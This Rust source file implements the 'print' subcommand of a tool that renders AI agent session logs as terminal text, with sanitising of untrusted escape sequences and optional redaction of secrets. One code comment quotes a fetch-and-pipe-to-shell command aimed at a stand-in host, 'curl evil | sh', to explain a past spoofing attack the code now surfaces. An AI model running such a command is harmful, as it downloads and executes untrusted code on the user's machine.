//! `rawpv print INPUT [--all] [--detail] [--color auto|always|never] [--width N]`: the feed as
//! text on stdout (quiet rows hidden as in the viewer, unless `--all`), or with `--detail` every invocation's detail as the viewer's detail pane shows it with
//! every block expanded: the same builder (`crate::detail::build`), so the same lines.
//!
//! Colour: `always` writes our styles as SGR ([`crate::render::sgr::lines_to_ansi`]); `auto` does
//! so only when stdout is a terminal and `NO_COLOR` is unset; otherwise plain text. Either way the
//! untrusted content has been neutralised by the renderers: the only escape sequences written
//! are our own SGR. Lines are wrapped at `--width` (default: the terminal's, else 100 columns).
//!
//! Sessions (SPEC §6, issue 18): when the input holds more than one session, each feed row
//! starts with its session's id in brackets (`[6f1c2b1e-…] Bash  ok  ls  [id]`; an id wider than
//! 36 columns cut with an ellipsis), and with
//! `--detail` each call's detail is preceded by a `session ID` line. A file's rows are written
//! as it folds, so rows written before a second session appears (past the first 4 MiB batch
//! of the file) carry no id: they are the default session's. A single-session input prints
//! as before.

use std::io::{IsTerminal, Write};

use ratatui::text::Line;

use crate::cli::{ColorChoice, InputArgs};
use crate::protocol::FrameType;
use crate::render::{lines_to_string, sgr};
use crate::session::{Item, MessageKind, Session};
use crate::source::SourceKind;
use crate::theme::Theme;

/// Default width when stdout is not a terminal and no `--width` is given.
const DEFAULT_WIDTH: u16 = 100;

/// Runs the command; returns the exit code.
pub async fn run(
    input: &InputArgs,
    detail: bool,
    all: bool,
    color: ColorChoice,
    width: Option<u16>,
    config: Option<&std::path::Path>,
    redact: bool,
) -> i32 {
    let mut red = redact.then(crate::redact::Redactor::new);
    let code = run_with(input, detail, all, color, width, config, red.as_mut()).await;
    if let Some(r) = red
        && code == 0
    {
        eprintln!("rawpv: {}", r.summary());
    }
    code
}

/// [`run`] with the redaction pass (`--redact`), whose counts the caller reports.
async fn run_with(
    input: &InputArgs,
    detail: bool,
    all: bool,
    color: ColorChoice,
    width: Option<u16>,
    config: Option<&std::path::Path>,
    red: Option<&mut crate::redact::Redactor>,
) -> i32 {
    // Render limits and the syntect theme come from the config (`--detail` only uses them).
    let limits = if detail {
        match crate::config::load(config) {
            Ok(loaded) => {
                for w in &loaded.warnings {
                    eprintln!("rawpv: warning: {w}");
                }
                loaded.config.apply_render_settings();
                loaded.config.limits.limits()
            }
            Err(e) => {
                eprintln!("rawpv: {e}");
                return 2;
            }
        }
    } else {
        crate::render::Limits::default()
    };
    let one = match input.single() {
        Ok(one) => one,
        Err(e) => {
            eprintln!("rawpv: {e}");
            return 2;
        }
    };
    let several = one.is_none();
    let input = one.as_ref().unwrap_or(input);
    let kind = super::source_kind(input);
    // A patch or a terminal capture prints as the document it is (issue 22 item 10).
    let document = matches!(&kind, SourceKind::File(p) if matches!(
        crate::import::detect_path(p),
        Some(crate::import::Format::UnifiedDiff | crate::import::Format::TerminalCapture)
    ));
    if !detail
        && !document
        && !several
        && let SourceKind::File(path) = kind
    {
        let shown = crate::render::text::visible(&path.display().to_string());
        if let Some(e) = crate::import::not_a_session(&path, &shown) {
            eprintln!("rawpv: {e}");
            return 2;
        }
        let mut owned = red.as_deref().cloned();
        let r = tokio::task::spawn_blocking(move || {
            let r = stream_feed(&path, all, owned.as_mut());
            (r, owned)
        })
        .await;
        let r = r.map(|(r, owned)| {
            if let (Some(red), Some(o)) = (red, owned) {
                *red = o;
            }
            r
        });
        return match r {
            Ok(Ok(r)) => super::exit_code(r, 0),
            Ok(Err(e)) => {
                eprintln!("rawpv: {e}");
                2
            }
            Err(e) => {
                eprintln!("rawpv: {e}");
                2
            }
        };
    }
    let Some((session, format)) = super::load_session_or_say(input).await else {
        return 2;
    };
    if format == crate::import::Format::NotSession {
        eprintln!(
            "rawpv: the input is not a session: no line of it is a JSON record, a diff or a terminal capture"
        );
        return 2;
    }
    let document = matches!(
        format,
        crate::import::Format::UnifiedDiff | crate::import::Format::TerminalCapture
    );
    let r = if detail || document {
        let is_tty = std::io::stdout().is_terminal();
        let use_colour = match color {
            ColorChoice::Always => true,
            ColorChoice::Never => false,
            ColorChoice::Auto => {
                is_tty && std::env::var_os("NO_COLOR").is_none_or(|v| v.is_empty())
            }
        };
        let width = width
            .or_else(|| {
                is_tty
                    .then(|| crossterm::terminal::size().ok().map(|(w, _)| w))
                    .flatten()
            })
            .unwrap_or(DEFAULT_WIDTH)
            .max(20);
        if document && !detail {
            super::with_stdout(|out| {
                let mut out = Redacting::new(out, red);
                write_document(&mut out, &session, width, use_colour, limits)?;
                out.finish()
            })
        } else {
            super::with_stdout(|out| {
                write_detail_redacted(out, &session, width, use_colour, limits, red)
            })
        }
    } else {
        super::with_stdout(|out| {
            let mut out = Redacting::new(out, red);
            write_feed(&mut out, &session, all)?;
            out.finish()
        })
    };
    // An input that could not be read was said on stderr; what the others hold is printed.
    let ok = if super::failed_inputs(&session) > 0 {
        2
    } else {
        0
    };
    super::exit_code(r, ok)
}

/// `print` of a file, rows written as the file folds (issue 17): after each batch, the rows from
/// the first one not yet written up to the first one that can still change (an open call, an
/// open message) are written and their content dropped (a call's summary, result record and
/// chunk text; a message's text; an event's frame); once the written rows are half the feed they
/// are dropped (`Session::drop_written`: a finished call keeps a folded record of ~30 bytes, the
/// reducer's state for later frames), so memory holds what is still open. At the end every row
/// is final.
///
/// # Errors
/// `Err`: the file cannot be read (phrased for the user); `Ok(Err)`: writing failed (a closed
/// pipe is `Ok(Ok(()))`).
fn stream_feed(
    path: &std::path::Path,
    all: bool,
    red: Option<&mut crate::redact::Redactor>,
) -> Result<std::io::Result<()>, String> {
    let stdout = std::io::stdout();
    let mut buffered = std::io::BufWriter::new(stdout.lock());
    let mut out = Redacting::new(&mut buffered, red);
    let mut next = 0;
    let mut write_err = None;
    let folded = crate::source::file::fold_path_each(path, Session::new(), |s| {
        write_final_rows(&mut out, s, &mut next, all).map_err(|e| {
            write_err = Some(e);
            std::io::Error::other("output stopped")
        })?;
        // The written rows go once they are half the feed (amortised O(1) a row), their calls
        // to the folded table (`Session::drop_written`), so memory follows what is still open.
        if next >= 4096 && next * 2 >= s.items.len() && !s.ended {
            next = s.drop_written(next);
        }
        Ok(())
    });
    let written = if let Some(e) = write_err {
        Err(e)
    } else {
        if let Err(e) = folded {
            let shown = crate::render::text::visible(&path.display().to_string());
            return Err(format!("cannot read {shown}: {e}"));
        }
        out.finish().and_then(|()| buffered.flush())
    };
    Ok(match written {
        Err(e) if e.kind() == std::io::ErrorKind::BrokenPipe => Ok(()),
        other => other,
    })
}

/// Writes the rows from `*next` on that can no longer change (all of them once the session has
/// ended), drops their content, and moves `*next` past them.
fn write_final_rows(
    out: &mut dyn Write,
    session: &mut Session,
    next: &mut usize,
    all: bool,
) -> std::io::Result<()> {
    while *next < session.items.len() {
        let idx = *next;
        let done = match &session.items[idx] {
            Item::Invocation(i) => !session.invocations[*i].status.is_open(),
            // A closed message is never continued (deltas go to open ones).
            Item::Message(m) => m.done,
            Item::Event(_) => true,
        };
        if !done && !session.ended {
            break;
        }
        write_row(out, session, idx, all)?;
        match &mut session.items[idx] {
            Item::Invocation(i) => {
                let inv = &mut session.invocations[*i];
                inv.summary = Box::default();
                inv.result = None;
                inv.request_envelope = None;
                inv.result_envelope = None;
                inv.stream.forget_text();
            }
            Item::Message(m) => {
                m.text = String::new();
                m.metadata = serde_json::Map::new();
            }
            Item::Event(f) => {
                let body = crate::protocol::Body::Generic(serde_json::Map::new());
                **f = crate::protocol::Frame::new(f.frame_type.clone(), body);
            }
        }
        *next += 1;
    }
    Ok(())
}

/// Writes one line per feed item, quiet rows only when `all`.
pub fn write_feed(out: &mut dyn Write, session: &Session, all: bool) -> std::io::Result<()> {
    for idx in 0..session.items.len() {
        write_row(out, session, idx, all)?;
    }
    Ok(())
}

/// Writes feed item `idx`'s line (none for a quiet message), after its session's id when the
/// input holds more than one session.
fn write_row(out: &mut dyn Write, session: &Session, idx: usize, all: bool) -> std::io::Result<()> {
    // Quiet rows (usage, progress, snapshots, hook runs shown in their call, context) are hidden
    // as in the viewer, unless `--all`; a message without text is never a row.
    let quiet = crate::session::query::is_quiet(session, idx)
        && (!all || matches!(session.items[idx], Item::Message(_)));
    if quiet {
        return Ok(());
    }
    if session.sessions.is_multi() {
        let sid = session.sessions.of_item(idx);
        let name = crate::render::text::visible(&session.sessions.short_name(sid));
        write!(out, "[{name}] ")?;
    }
    match &session.items[idx] {
        Item::Invocation(i) => {
            let inv = &session.invocations[*i];
            // Names and ids are untrusted text too (issue 9).
            // What the call did (the feed's summary), then its id for grep and `--detail`.
            // A failed hook is said before the summary, as on the feed's row (issue 20).
            let summary =
                crate::session::hooks::failed_words(session.hooks.failed(&inv.invocation_id))
                    + &crate::render::ansi::visible_plain(&crate::session::summary::shown(
                        session, inv,
                    ));
            let gap = if summary.is_empty() { "" } else { "  " };
            writeln!(
                out,
                "{:<10} {:<9} {summary}{gap}[{}]",
                crate::render::text::visible(&inv.tool_name),
                crate::render::text::visible(inv.status.word(session.ended)),
                crate::render::text::visible(&inv.invocation_id)
            )?;
        }
        // An agent turn with only whitespace text is a quiet row in the viewer too (above).
        Item::Message(m) => {
            let kind = match m.kind {
                MessageKind::Prompt => "prompt",
                MessageKind::AgentText => "agent",
                MessageKind::Thinking => "thinking",
            };
            // Redacted text is never printed as the original (SPEC 3.6), as in the feed.
            let first = crate::session::summary::message_line(m);
            writeln!(
                out,
                "{kind:<10} {}",
                crate::render::ansi::visible_plain(&first)
            )?;
        }
        Item::Event(f) => match &f.frame_type {
            FrameType::SessionError | FrameType::AgentError => {
                let p = f.payload_json();
                let field = |k: &str| p.get(k).and_then(serde_json::Value::as_str);
                let msg = field("message").or_else(|| field("error")).unwrap_or("");
                let first = msg.lines().next().unwrap_or("");
                let code = field("error_code").map_or_else(String::new, |c| format!("{c}: "));
                writeln!(
                    out,
                    "{:<10} {}",
                    crate::render::text::visible(f.frame_type.as_str()),
                    crate::render::text::visible(&format!("{code}{first}"))
                )?;
            }
            // A request that is no call of its own (its `invocation_id` was taken or is
            // missing) still says what it asked: a second `curl evil | sh` under a reused id
            // appeared as a bare `tool.invoke.request` (second attack of issue 14).
            FrameType::ToolInvokeRequest => {
                let p = f.payload_json();
                let tool = p.get("tool_name").and_then(serde_json::Value::as_str);
                let id = p.get("invocation_id").and_then(serde_json::Value::as_str);
                let input = p.get("input").cloned().unwrap_or_default();
                let summary = crate::session::summary::input_summary(tool.unwrap_or(""), &input);
                writeln!(
                    out,
                    "{:<10} {} {}  [{}] (not a call of its own: see check)",
                    crate::render::text::visible(f.frame_type.as_str()),
                    crate::render::text::visible(tool.unwrap_or("?")),
                    crate::render::ansi::visible_plain(&summary),
                    crate::render::text::visible(id.unwrap_or("no invocation_id"))
                )?;
            }
            // What the row says, as the feed says it (issue 20: a hook, a command's output).
            _ => {
                let words =
                    crate::render::ansi::visible_plain(&crate::session::summary::event_line(f));
                let t = crate::render::text::visible(f.frame_type.as_str());
                if words.is_empty() {
                    writeln!(out, "{t:<10}")?;
                } else {
                    writeln!(out, "{t:<10} {words}")?;
                }
            }
        },
    }
    Ok(())
}

/// Feed text through the redaction pass (`print --redact`): each whole line is redacted before
/// it is written (rows are plain text, so a secret is never split by styling); without a pass,
/// a plain pass-through.
struct Redacting<'a, 'r> {
    out: &'a mut dyn Write,
    red: Option<&'r mut crate::redact::Redactor>,
    line: Vec<u8>,
}

impl<'a, 'r> Redacting<'a, 'r> {
    fn new(out: &'a mut dyn Write, red: Option<&'r mut crate::redact::Redactor>) -> Self {
        Self {
            out,
            red,
            line: Vec::new(),
        }
    }

    fn emit(&mut self) -> std::io::Result<()> {
        let line = std::mem::take(&mut self.line);
        match self.red.as_deref_mut() {
            Some(r) => {
                let text = String::from_utf8_lossy(&line);
                self.out.write_all(r.text(&text).as_bytes())
            }
            None => self.out.write_all(&line),
        }
    }

    /// Writes what is left of the last line.
    fn finish(mut self) -> std::io::Result<()> {
        if !self.line.is_empty() {
            self.emit()?;
        }
        self.out.flush()
    }
}

impl Write for Redacting<'_, '_> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        if self.red.is_none() {
            return self.out.write(buf);
        }
        for part in buf.split_inclusive(|&b| b == b'\n') {
            self.line.extend_from_slice(part);
            if part.ends_with(b"\n") {
                self.emit()?;
            }
        }
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        self.out.flush()
    }
}

/// [`write_detail_with`], each call's detail built from a redacted copy when `red` is given
/// (`print --detail --redact`; the same pass as `rawpv export`).
fn write_detail_redacted(
    out: &mut dyn Write,
    session: &Session,
    width: u16,
    colour: bool,
    limits: crate::render::Limits,
    red: Option<&mut crate::redact::Redactor>,
) -> std::io::Result<()> {
    let Some(red) = red else {
        return write_detail_with(out, session, width, colour, limits);
    };
    let theme = if colour { Theme::dark() } else { Theme::mono() };
    for inv in &session.invocations {
        if session.sessions.is_multi() {
            let name = crate::render::text::visible(&session.sessions.short_name(inv.session));
            writeln!(out, "session {}", red.text(&name))?;
        }
        let Some(mut src) = crate::detail::DetailSource::from_session(session, inv.item) else {
            continue;
        };
        crate::export::html::redact_source(&mut src, red);
        let wrapped = source_lines(&src, width, &theme, limits);
        write_lines(out, &wrapped, colour)?;
    }
    Ok(())
}

/// Writes every invocation's detail (header, input, output or stream), wrapped at `width`, as
/// SGR-styled text when `colour`, else plain.
pub fn write_detail(
    out: &mut dyn Write,
    session: &Session,
    width: u16,
    colour: bool,
) -> std::io::Result<()> {
    write_detail_with(
        out,
        session,
        width,
        colour,
        crate::render::Limits::default(),
    )
}

/// [`write_detail`] with render limits (config `limits.*`).
pub fn write_detail_with(
    out: &mut dyn Write,
    session: &Session,
    width: u16,
    colour: bool,
    limits: crate::render::Limits,
) -> std::io::Result<()> {
    let theme = if colour { Theme::dark() } else { Theme::mono() };
    for inv in &session.invocations {
        if session.sessions.is_multi() {
            let name = crate::render::text::visible(&session.sessions.short_name(inv.session));
            writeln!(out, "session {name}")?;
        }
        let wrapped = detail_lines(session, inv.item, width, &theme, limits);
        write_lines(out, &wrapped, colour)?;
    }
    Ok(())
}

/// `lines` as SGR-styled text (`colour`) or plain, then a blank line.
fn write_lines(out: &mut dyn Write, lines: &[Line<'_>], colour: bool) -> std::io::Result<()> {
    let text = if colour {
        sgr::lines_to_ansi(lines)
    } else {
        lines_to_string(lines)
    };
    out.write_all(text.as_bytes())?;
    out.write_all(b"\n")
}

/// A patch or a terminal capture opened as a session (`crate::import::patch`), printed as the
/// document: a patch's header text, then each file's diff drawn by the renderer of Edit results
/// (gutter, line numbers, word emphasis; syntax colour with `colour`), a capture through the
/// terminal emulator; wrapped at `width`.
///
/// # Errors
/// Writing failed.
pub fn write_document(
    out: &mut dyn Write,
    session: &Session,
    width: u16,
    colour: bool,
    limits: crate::render::Limits,
) -> std::io::Result<()> {
    let theme = if colour { Theme::dark() } else { Theme::mono() };
    let mut cx = crate::render::RenderCtx::new(width, &theme);
    cx.limits = limits;
    cx.highlight = colour;
    for item in &session.items {
        let lines = match item {
            Item::Event(f) if crate::import::patch::is_header(&f.frame_type) => f
                .payload_json()
                .get("text")
                .and_then(serde_json::Value::as_str)
                .map(|t| crate::render::text::build_plain_lines(t, &cx).lines)
                .unwrap_or_default(),
            Item::Invocation(k) => {
                let inv = &session.invocations[*k];
                let Some(output) = session.output(inv) else {
                    continue;
                };
                let ot = inv
                    .result
                    .as_ref()
                    .and_then(|r| r.output_type.clone())
                    .unwrap_or(crate::protocol::OutputType::Text);
                let r = crate::render::render_output(&ot, &output, &inv.tool_name, &inv.input, &cx);
                crate::render::wrap::wrap_lines(&r.lines, width)
            }
            Item::Event(_) | Item::Message(_) => continue,
        };
        write_lines(out, &lines, colour)?;
    }
    Ok(())
}

/// The detail of item `item` as the viewer's detail pane shows it `width` columns wide with
/// every block expanded (the same builder, [`crate::detail::build`]), wrapped at `width`.
/// Highlighted when `theme` has colour; a deferred input or output is read back from the file.
pub fn detail_lines(
    session: &Session,
    item: usize,
    width: u16,
    theme: &Theme,
    limits: crate::render::Limits,
) -> Vec<Line<'static>> {
    let Some(src) = crate::detail::DetailSource::from_session(session, item) else {
        return Vec::new();
    };
    source_lines(&src, width, theme, limits)
}

/// The detail of `src` as [`detail_lines`] draws it.
fn source_lines(
    src: &crate::detail::DetailSource,
    width: u16,
    theme: &Theme,
    limits: crate::render::Limits,
) -> Vec<Line<'static>> {
    let opts = crate::detail::DetailOpts {
        width,
        expanded: true,
        side_by_side: false,
        wrap: true,
        limits,
    };
    let lines = if theme.colour {
        crate::detail::build::build_detail_lines(src, theme, opts)
    } else {
        crate::detail::build::build_plain_detail_lines(src, theme, opts)
    };
    lines
        .iter()
        .flat_map(|l| crate::render::wrap::wrap_line_styled(l, usize::from(width)))
        .collect()
}
